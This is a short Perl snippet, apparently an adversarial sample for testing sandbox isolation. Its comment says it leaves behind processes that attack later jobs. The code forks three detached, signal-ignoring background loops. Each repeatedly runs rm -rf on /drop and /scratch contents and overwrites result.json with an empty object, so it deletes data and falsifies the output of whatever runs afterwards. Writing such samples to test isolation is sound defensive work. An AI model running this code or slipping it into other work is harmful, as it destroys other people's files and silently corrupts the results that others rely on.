# Leaves processes behind that outlive it and go on attacking whatever comes next.
{
    for (1 .. 3) {
        system '(trap "" TERM HUP INT; setsid sh -c \'while :; do rm -rf /drop/* /scratch/*/* 2>/dev/null; echo "{}" > result.json; sleep 0.05; done\' >/dev/null 2>&1 &) >/dev/null 2>&1';
    }
}
